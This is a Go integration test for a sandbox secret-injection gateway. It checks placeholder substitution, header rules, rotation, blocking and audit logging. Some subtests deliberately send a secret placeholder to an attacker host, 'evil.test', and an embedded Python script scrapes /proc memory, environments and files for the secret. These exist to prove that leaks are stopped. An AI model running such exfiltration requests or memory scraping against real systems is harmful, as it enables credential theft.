package egress

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/spacesandbox/space/client"
	"github.com/spacesandbox/space/test/harness"
)

// scanPy looks for a secret everywhere a process in the sandbox can look:
// every file under the usual roots, every process's environment and
// command line, and every process's memory. The secret comes XORed so
// that neither its command line nor the agent that starts it holds it;
// the scanner's own memory (which must rebuild it) is skipped.
const scanPy = `
import base64, os, subprocess, sys, time
key = bytes(b ^ 0x5a for b in base64.b64decode(sys.argv[1]))
hits = []
child = None
if len(sys.argv) > 2:
    # gVisor lets a process read only its descendants' memory: run the
    # process that uses the placeholder as a child, once it is done.
    child = subprocess.Popen(["python3", sys.argv[2]])
    while not os.path.exists("/tmp/hold.out"):
        time.sleep(0.1)
    time.sleep(0.2)
    print("child", child.pid)
for root in ["/etc", "/home", "/root", "/tmp", "/var", "/usr/local", "/opt", "/run"]:
    for d, _, files in os.walk(root):
        for f in files:
            p = os.path.join(d, f)
            try:
                with open(p, "rb") as fh:
                    if key in fh.read():
                        hits.append("file " + p)
            except OSError:
                pass
me = str(os.getpid())
for pid in [p for p in os.listdir("/proc") if p.isdigit() and p != me]:
    for part in ["environ", "cmdline"]:
        try:
            with open("/proc/%s/%s" % (pid, part), "rb") as fh:
                if key in fh.read():
                    hits.append("%s of pid %s" % (part, pid))
        except OSError:
            pass
    scanned = 0
    try:
        with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
            for line in maps:
                lo, hi = [int(x, 16) for x in line.split()[0].split("-")]
                if "r" not in line.split()[1]:
                    continue
                try:
                    mem.seek(lo)
                    if key in mem.read(hi - lo):
                        hits.append("memory of pid %s" % pid)
                    scanned += hi - lo
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError as e:
        print("pid", pid, "memory unreadable:", e)
    print("pid", pid, "scanned", scanned)
print("HITS", hits)
if child:
    child.kill()
`

// holdPy makes an HTTPS request with the placeholder through the gateway
// and then stays alive with everything it sent and got still in memory,
// for the scan.
const holdPy = `
import os, time, urllib.request
req = urllib.request.Request("https://allowed.test/auth", headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
body = urllib.request.urlopen(req, timeout=10).read()
open("/tmp/hold.out", "wb").write(body)
time.sleep(300)
`

// TestInjection: a sandbox holds placeholders only; the gateway puts the
// secret into requests to the secret's binding over HTTP and HTTPS (the
// sandbox verifying the gateway's CA, the gateway verifying the server),
// adds a configured header, follows a rotation on the next request, and
// stops a placeholder sent anywhere else. The secret is nowhere inside.
func TestInjection(t *testing.T) {
	need(t)
	t.Parallel()
	secret := "sk-test-" + harness.RandHex(16)
	rotated := "sk-rotated-" + harness.RandHex(16)
	putSecret(t, "apikey", `{"value":"`+secret+`","host":"allowed.test"}`)
	putSecret(t, "hdr", `{"value":"`+secret+`","host":"allowed.test","path_prefix":"/auth","header":"X-Api-Key","header_format":"Key {secret}"}`)

	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	sb, err := env.d.Client.CreateSandbox(ctx, client.CreateSandboxRequest{
		Network: &client.Network{Allow: []string{"allowed.test", "evil.test"}},
		Secrets: map[string]string{"API_KEY": "apikey", "HDR_KEY": "hdr"},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { env.d.Client.KillSandbox(context.Background(), sb.ID) })
	prepare(t, sb.ID)
	placeholder := strings.TrimSpace(run(t, sb.ID, "", []string{"printenv", "API_KEY"}))
	if !strings.HasPrefix(placeholder, "space-secret-apikey-") {
		t.Fatalf("API_KEY in the sandbox is %q, want a placeholder", placeholder)
	}
	bearer := func(host, path string) string {
		return "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Bearer " + placeholder + "\r\nConnection: close\r\n\r\n"
	}
	const bundle = "/etc/ssl/certs/ca-certificates.crt"

	for _, tc := range []struct {
		name string
		spec spec
		want []string
	}{
		{"HTTP, placeholder replaced", spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: bearer("allowed.test", "/")},
			[]string{"auth=" + digest("Bearer "+secret), "xkey=-"}},
		{"HTTP, header added inside the path prefix", spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: httpGet("allowed.test", "/auth/x")},
			[]string{"xkey=" + digest("Key "+secret)}},
		{"HTTPS through the gateway's CA, placeholder replaced", spec{Kind: "tls", Host: "allowed.test", Port: 443, SNI: "allowed.test", CA: bundle, Send: bearer("allowed.test", "/auth")},
			[]string{"M-" + allowedIP + ":443", "auth=" + digest("Bearer "+secret), "xkey=" + digest("Key "+secret)}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := probe(t, sb.ID, tc.spec)
			for _, w := range tc.want {
				if !strings.Contains(out, w) {
					t.Errorf("answer %q lacks %q", out, w)
				}
			}
		})
	}

	t.Run("rotation applies to the next request", func(t *testing.T) {
		putSecret(t, "apikey", `{"value":"`+rotated+`","host":"allowed.test"}`)
		out := probe(t, sb.ID, spec{Kind: "tls", Host: "allowed.test", Port: 443, SNI: "allowed.test", CA: bundle, Send: bearer("allowed.test", "/")})
		if !strings.Contains(out, "auth="+digest("Bearer "+rotated)) {
			t.Errorf("after rotation: %q", out)
		}
	})

	for _, a := range []struct {
		name string
		spec spec
	}{
		{"placeholder to an attacker's host over HTTP", spec{Kind: "tcp", Host: evilIP, Port: 80, Send: bearer("evil.test", "/")}},
		{"placeholder to an attacker's host over HTTPS", spec{Kind: "tls", Host: evilIP, Port: 443, SNI: "evil.test", Send: bearer("evil.test", "/")}},
		{"placeholder in the query to an attacker's host", spec{Kind: "tcp", Host: evilIP, Port: 80, Send: httpGet("evil.test", "/?k="+placeholder)}},
		{"placeholder to the bound host by address", spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: "GET / HTTP/1.0\r\nAuthorization: " + placeholder + "\r\n\r\n"}},
		{"another sandbox's placeholder", spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: "GET / HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: space-secret-apikey-0123456789abcdef\r\n\r\n"}},
	} {
		t.Run(a.name, func(t *testing.T) {
			out := probe(t, sb.ID, a.spec)
			if strings.Contains(out, "M-") {
				t.Errorf("the request went through: %q", out)
			}
		})
	}

	t.Run("secret absent from the sandbox", func(t *testing.T) {
		for name, text := range map[string]string{"/tmp/scan.py": scanPy, "/tmp/hold.py": holdPy} {
			if _, err := env.d.Client.Upload(ctx, sb.ID, name, strings.NewReader(text)); err != nil {
				t.Fatal(err)
			}
		}
		// Root reads every file; the memory scan reads the process that
		// used the placeholder (a child of the scanner; gVisor lets a
		// process read only its descendants' memory, so the agent's own
		// is out of reach from inside, as it is for an attacker).
		xor := func(s string) string {
			x := []byte(s)
			for i := range x {
				x[i] ^= 0x5a
			}
			return base64.StdEncoding.EncodeToString(x)
		}
		// Control: the scan finds the placeholder, which is inside.
		run(t, sb.ID, "root", []string{"rm", "-f", "/tmp/hold.out"})
		if out := run(t, sb.ID, "root", []string{"python3", "/tmp/scan.py", xor(placeholder), "/tmp/hold.py"}); !strings.Contains(out, "memory of pid") || !strings.Contains(out, "environ of pid") {
			t.Fatalf("control: the scan does not find the placeholder in the process that used it: %s", out)
		}
		for _, s := range []string{secret, rotated} {
			x := []byte(s)
			for i := range x {
				x[i] ^= 0x5a
			}
			arg := base64.StdEncoding.EncodeToString(x)
			run(t, sb.ID, "root", []string{"rm", "-f", "/tmp/hold.out"})
			out := run(t, sb.ID, "root", []string{"python3", "/tmp/scan.py", arg, "/tmp/hold.py"})
			if !strings.Contains(out, "HITS []") {
				t.Errorf("the secret is in the sandbox: %s", out)
			}
			child := regexp.MustCompile(`child (\d+)`).FindStringSubmatch(out)
			if child == nil || !regexp.MustCompile(fmt.Sprintf(`pid %s scanned [1-9]`, child[1])).MatchString(out) {
				t.Errorf("the memory of the process that used the placeholder was not scanned: %s", out)
			}
			if !strings.Contains(run(t, sb.ID, "", []string{"cat", "/tmp/hold.out"}), "auth=") {
				t.Error("the holding process's request did not go through")
			}
			t.Logf("scan: %s", out)
		}
	})

	t.Run("secret only at its binding, and never logged", func(t *testing.T) {
		if env.net.serversSaw(placeholder) {
			t.Error("a server got the placeholder")
		}
		log, _ := os.ReadFile(env.d.LogPath)
		if strings.Contains(string(log), secret) || strings.Contains(string(log), rotated) {
			t.Error("spaced logged a secret value")
		}
		if !strings.Contains(string(log), `msg="egress injected" sandbox=`+sb.ID+` tenant=default secret=apikey host=allowed.test`) {
			t.Error("no audit line for the injection (with its sandbox, tenant, secret's name and host)")
		}
	})
}

func putSecret(t *testing.T, name, body string) {
	t.Helper()
	resp, data := api(t, "PUT", "/v1/secrets/"+name, body)
	if resp.StatusCode != 200 || strings.Contains(string(data), "sk-") {
		t.Fatalf("put secret %s: %d %s", name, resp.StatusCode, data)
	}
}

// TestHeaderRules: E2B's network.rules header transforms are set by the
// gateway on requests to that host, over HTTPS too, and nowhere else.
func TestHeaderRules(t *testing.T) {
	need(t)
	t.Parallel()
	const value = "rule-value-0123"
	req, _ := http.NewRequest("POST", "http://"+env.d.Addr+"/v2/sandboxes", strings.NewReader(`{"templateID":"base","allow_internet_access":false,
		"network":{"allowOut":["allowed.test","evil.test"],"rules":{"allowed.test":[{"transform":{"headers":{"X-Api-Key":"`+value+`"}}}]}}}`))
	req.Header.Set("X-API-KEY", env.d.APIKey)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var sb struct {
		SandboxID string `json:"sandboxID"`
	}
	err = json.NewDecoder(resp.Body).Decode(&sb)
	resp.Body.Close()
	if resp.StatusCode != 201 || err != nil {
		t.Fatalf("E2B create: %d %v", resp.StatusCode, err)
	}
	t.Cleanup(func() { env.d.Client.KillSandbox(context.Background(), sb.SandboxID) })
	prepare(t, sb.SandboxID)
	const bundle = "/etc/ssl/certs/ca-certificates.crt"
	for _, tc := range []struct {
		name string
		spec spec
		want string
	}{
		{"HTTP to the rule's host", spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: httpGet("allowed.test", "/")}, "xkey=" + digest(value)},
		{"HTTPS to the rule's host", spec{Kind: "tls", Host: "allowed.test", Port: 443, SNI: "allowed.test", CA: bundle, Send: httpGet("allowed.test", "/")}, "xkey=" + digest(value)},
		{"another host", spec{Kind: "tcp", Host: evilIP, Port: 80, Send: httpGet("evil.test", "/")}, "xkey=-"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if out := probe(t, sb.SandboxID, tc.spec); !strings.Contains(out, tc.want) {
				t.Errorf("answer %q lacks %q", out, tc.want)
			}
		})
	}
}
